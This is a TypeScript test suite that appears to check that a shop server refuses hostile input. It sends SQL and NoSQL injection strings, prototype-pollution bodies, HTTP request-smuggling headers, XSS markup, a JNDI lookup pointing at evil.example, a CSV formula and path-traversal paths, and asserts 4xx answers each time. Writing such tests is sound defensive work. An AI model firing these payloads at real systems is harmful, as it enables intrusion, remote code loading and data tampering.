/**
 * Attack: send what no browser sends. Too long, twice, cut in two, of the wrong kind, with keys
 * and characters that mean something to whoever is careless. Nothing of it is an error of ours
 * (no 5xx), nothing of it gets further than its refusal, and the next request is served.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { openBrowser, type Browser } from '#test/support/browser.ts';
import { sendRawHttp as sendRawTo, statusesOf } from '#test/support/raw-http.ts';
import { openTestShop, type TestShop } from '#test/support/shop.ts';

let shop: TestShop;
let ada: Browser;
let token: string;
beforeAll(async () => {
  shop = await openTestShop();
  ada = openBrowser(shop.url);
  await ada.register('ada@example.com');
  token = await ada.exchange('ada@example.com');
});
afterAll(() => shop.close());
// Nobody is shut out by what the last test tried.
afterEach(() =>
  shop.db.query({ text: 'delete from attempts_by_network; delete from attempts_by_email' }),
);

const sendRaw = (text: string) => sendRawTo(shop.url, text);

function request(method: string, path: string, headers: readonly string[], body = ''): string {
  const { host } = new URL(shop.url);
  const lines = [`${method} ${path} HTTP/1.1`, `Host: ${host}`, 'Connection: close', ...headers];
  return `${lines.join('\r\n')}\r\n\r\n${body}`;
}

const isRefused = (status: number) => status >= 400 && status < 500;

describe('a token', () => {
  test.each([
    ['empty', ''],
    ['a single letter', 'x'],
    ['of another scheme', 'Basic YWRhOmJyaXN0bGU='],
    ['with a space in it', 'Bearer sht_a b'],
    ['that is a list', 'Bearer sht_a,Bearer sht_b'],
    ['too long by far', `Bearer sht_${'x'.repeat(12_000)}`],
    ['a credential that nobody signed', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZGEifQ.'],
    ['SQL', "Bearer sht_'or'1'='1'--"],
    ['the prototype', 'Bearer __proto__'],
  ])('that is %s opens nothing', async (_, authorization) => {
    const answer = await ada.send('GET /api/profile', { headers: { authorization } });
    expect(answer.status).toBe(401);
  });

  test('longer than any header may be is not read to its end', async () => {
    const long = request('GET', '/api/profile', [`Authorization: Bearer ${'x'.repeat(17_000)}`]);
    expect(statusesOf(await sendRaw(long))).toEqual([431]);
  });

  test('that comes twice counts as it came first, whichever is good', async () => {
    const cookie = `Cookie: shop_bind=${ada.cookies.get('shop_bind')}`;
    const good = `Authorization: Bearer ${token}`;
    const bad = `Authorization: Bearer sht_${'x'.repeat(43)}`;
    const ask = async (headers: string[]) =>
      statusesOf(await sendRaw(request('GET', '/api/profile', [cookie, ...headers])));
    expect(await ask([good])).toEqual([200]);
    expect(await ask([good, bad])).toEqual([200]);
    expect(await ask([bad, good])).toEqual([401]);
  });
});

describe('cookies', () => {
  test.each([
    ['a hundred of them', Array.from({ length: 100 }, (_, at) => `shop_bind=${at}`).join('; ')],
    ['without names', '=; ==; ;;; =a; shop_bind'],
    ['with a session that was never signed', 'shop.session_token=abc'],
    ['with a session that is JSON', 'shop.session_token={"user":{"id":"1"}}'],
    ['with percent signs that mean nothing', 'shop.session_token=%E0%A4%A; shop_bind=%'],
    ['named like the prototype', '__proto__=1; constructor=2; shop.session_token=3'],
    ['long ones', `shop.session_token=${'x'.repeat(10_000)}`],
  ])('%s are nobody', async (_, cookie) => {
    const stranger = openBrowser(shop.url);
    const session = await stranger.send('GET /auth/get-session', { headers: { cookie } });
    expect([session.status, session.body]).toEqual([200, {}]);
    const headers = { cookie, authorization: `Bearer ${token}` };
    expect((await stranger.send('GET /api/profile', { headers })).status).toBe(401);
  });
});

describe('a body', () => {
  test('with the keys of the prototype changes no object but itself', async () => {
    const poison = '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}';
    const operations = [
      'POST /auth/sign-in/email',
      'POST /auth/sign-up/email',
      'POST /auth/update-user',
    ];
    for (const operation of [
      ...operations,
      'POST /auth/reset-password',
      'PUT /api/user/ada@example.com',
    ]) {
      const { status } = await ada.send(operation, { body: poison });
      expect([400, 401, 403]).toContain(status);
    }
    for (const what of ['POST /api/profile', 'POST /api/reviews', 'POST /api/contact']) {
      const headers = { authorization: `Bearer ${token}` };
      expect((await ada.send(what, { body: poison, headers })).status).toBe(400);
    }
    expect('admin' in {}).toBe(false);
    const { body } = await ada.send('GET /auth/get-session');
    expect(JSON.stringify(body)).not.toContain('admin');
  });

  test('that names a field twice is read once: attempts count for the account used', async () => {
    const guess = () =>
      openBrowser(shop.url).send('POST /auth/sign-in/email', {
        body: '{"email":"decoy@example.com","password":"x","email":"ada@example.com"}',
      });
    const statuses = [];
    for (let attempts = 0; attempts < 7; attempts += 1) statuses.push((await guess()).status);
    expect(statuses.filter((status) => status === 401)).toHaveLength(5);
    const ownCount = await openBrowser(shop.url).signIn('ada@example.com');
    expect(ownCount.status).toBe(429);
    expect((await openBrowser(shop.url).signIn('decoy@example.com')).status).toBe(401);
  });

  test.each([
    ['an e-mail that is a list', { email: ['ada@example.com'], password: 'paints fences' }],
    ['an e-mail that is an object', { email: { $ne: null }, password: 'paints fences' }],
    ['a password that is an object', { email: 'ada@example.com', password: { $gt: '' } }],
    ['a password that is true', { email: 'ada@example.com', password: true }],
    ['SQL in the e-mail', { email: "ada@example.com'--", password: 'x' }],
    ['SQL in the password', { email: 'ada@example.com', password: "' or 1=1 --" }],
    ['NUL in the e-mail', { email: 'ada@example.com\u0000', password: 'paints fences' }],
    ['half a character', { email: 'ada@example.com', password: '\uD800' }],
    [
      'a password of ten thousand letters',
      { email: 'ada@example.com', password: 'x'.repeat(10_000) },
    ],
  ])('with %s signs nobody in', async (_, body) => {
    const answer = await openBrowser(shop.url).send('POST /auth/sign-in/email', { body });
    expect([400, 401]).toContain(answer.status);
    expect(answer.headers.getSetCookie().join()).not.toContain('session_token=');
  });

  test('as deep as it is long is no work', async () => {
    const deep = `{"email":${'['.repeat(7000)}${']'.repeat(7000)}}`;
    const answer = await openBrowser(shop.url).send('POST /auth/sign-in/email', { body: deep });
    expect(answer.status).toBe(400);
  });

  test('larger than any form is not read to its end, by the provider or the calls', async () => {
    const body = JSON.stringify({ email: 'ada@example.com', name: 'x'.repeat(200_000) });
    for (const what of [
      'POST /auth/sign-in/email',
      'POST /api/profile',
      'PUT /api/user/a@b.example',
    ]) {
      const headers = { authorization: `Bearer ${token}` };
      expect((await ada.send(what, { body, headers })).status).toBe(413);
    }
  });
});

describe('two requests that look like one', () => {
  test.each([
    ['a length and chunks', ['Content-Length: 4', 'Transfer-Encoding: chunked']],
    ['two lengths', ['Content-Length: 2', 'Content-Length: 40']],
    ['a length that is no number', ['Content-Length: 0x10']],
    ['a negative length', ['Content-Length: -1']],
    ['chunks of an unknown kind', ['Transfer-Encoding: xchunked']],
    ['chunks named twice', ['Transfer-Encoding: chunked, chunked']],
    ['a space before the colon', ['Content-Length : 2']],
    ['a folded header', ['X-A: b', ' Content-Length: 2']],
    ['no host at all but a path that is one', ['Host: evil.example', 'Host: 127.0.0.1']],
  ])('are not taken apart: %s', async (_, headers) => {
    const smuggled = 'GET /api/profile HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';
    const json = 'Content-Type: application/json';
    const body = `0\r\n\r\n${smuggled}`;
    const answer = await sendRaw(request('POST', '/auth/sign-in/email', [json, ...headers], body));
    // One answer at the most, and none of it from the second request.
    const statuses = statusesOf(answer);
    expect(statuses.length).toBeLessThanOrEqual(1);
    expect(statuses.every(isRefused)).toBe(true);
    expect(answer).not.toContain('token_missing');
  });

  test('a method, a path or a version that is none is refused', async () => {
    const lines = [
      'GET / HTTP/9.9',
      'G\u0000T / HTTP/1.1',
      'GET  / HTTP/1.1',
      'hello',
      'GET / a b',
    ];
    for (const line of lines) {
      const statuses = statusesOf(await sendRaw(`${line}\r\nHost: x\r\nConnection: close\r\n\r\n`));
      expect(statuses.every(isRefused)).toBe(true);
    }
  });

  test('what a proxy may have added is not sent back to who asks for it with TRACE', async () => {
    for (const path of ['/', '/auth/token', '/api/profile', '/nowhere']) {
      const answer = await sendRaw(request('TRACE', path, ['X-Added: by-the-proxy']));
      expect([path, statusesOf(answer)[0]]).toEqual([path, expect.toSatisfy(isRefused)]);
      expect(answer).not.toContain('by-the-proxy');
    }
  });

  test('a path that is a whole address is the path in it, where the address is ours', async () => {
    const ask = async (path: string) => statusesOf(await sendRaw(request('GET', path, [])));
    expect(await ask(`${shop.url}/auth/token`)).toEqual([200]);
    expect(await ask(`${shop.url}/api/profile`)).toEqual([401]);
    expect(await ask(shop.url)).toEqual([404]);
    expect(await ask('http://evil.example/auth/token')).toEqual([421]);
    expect(await ask('https://evil.example/api/profile')).toEqual([421]);
    expect(await ask('ftp://evil.example/auth/token')).toEqual([404]);
  });

  test('a path that is another hosts, or leads out of the shop, finds no call', async () => {
    const paths = [
      '//evil.example/auth/token',
      '/auth/../api/profile',
      '/auth/%2e%2e/api/profile',
      '/auth//sign-in//email',
      '/auth/sign-in/email/',
      '/auth/sign-in%2Femail',
      '/auth/./token',
      '/AUTH/token',
      '/auth/token%00',
      '/auth/token;x=1',
    ];
    for (const path of paths) {
      const json = ['Content-Type: application/json', 'Content-Length: 2'];
      const [status = 0] = statusesOf(await sendRaw(request('POST', path, json, '{}')));
      expect([path, isRefused(status)]).toEqual([path, true]);
    }
  });
});

describe('a name', () => {
  const names = [
    '<img src=x onerror=alert(1)>',
    '"><script>alert(1)</script>',
    "Robert'); drop table app_user; --",
    '{{constructor.constructor("alert(1)")()}}',
    'Ada\r\nSet-Cookie: shop_bind=x',
    'Ada\u202Egnp.exe',
    '${jndi:ldap://evil.example/a}',
    '=cmd|calc!A1',
  ];

  test('that is markup or SQL is kept as the letters that it is, on one line', async () => {
    for (const [index, name] of names.entries()) {
      const email = `name.${index}@example.com`;
      const browser = openBrowser(shop.url);
      const body = { name, email, password: 'long enough' };
      expect((await browser.send('POST /auth/sign-up/email', { body })).status).toBe(200);
      await browser.signIn(email, 'long enough');
      await browser.exchange(email);
    }
    const admin = await shop.tokenOf(shop.world.mira);
    const answer = await shop.call('GET /user', { token: admin });
    expect(answer.headers.get('content-type')).toContain('application/json');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    const storedNames = Object.values(answer.body).map((user) => Object(user)['name']);
    for (const name of names) expect(storedNames).toContain(name.replaceAll(/[\r\n]+/g, ' '));
  });

  test('in an address is no way around it either', async () => {
    const emails = [
      '<script>@example.com',
      "a'--@example.com",
      'a@b@example.com',
      'a @example.com',
    ];
    for (const email of [
      ...emails,
      'ada@example.com\r\nBcc: all@example.com',
      `${'a'.repeat(300)}@x.y`,
    ]) {
      const body = { name: 'Eve', email, password: 'long enough' };
      const answer = await openBrowser(shop.url).send('POST /auth/sign-up/email', { body });
      if (answer.status !== 200) expect(answer.status).toBe(400);
    }
    const text = `select recipient from email where recipient ~ '[\\s<>]|@.*@'`;
    expect((await shop.db.query({ text })).rows).toEqual([]);
  });

  test('to be looked for is no pattern and no SQL', async () => {
    const admin = await shop.tokenOf(shop.world.mira);
    for (const q of ["' or 1=1 --", '%', '_', '\\', '%%%', "'; select pg_sleep(9); --", '\u0000']) {
      const answer = await shop.call(`GET /user?q=${encodeURIComponent(q)}`, { token: admin });
      expect(answer.status).toBeLessThan(500);
    }
  });
});
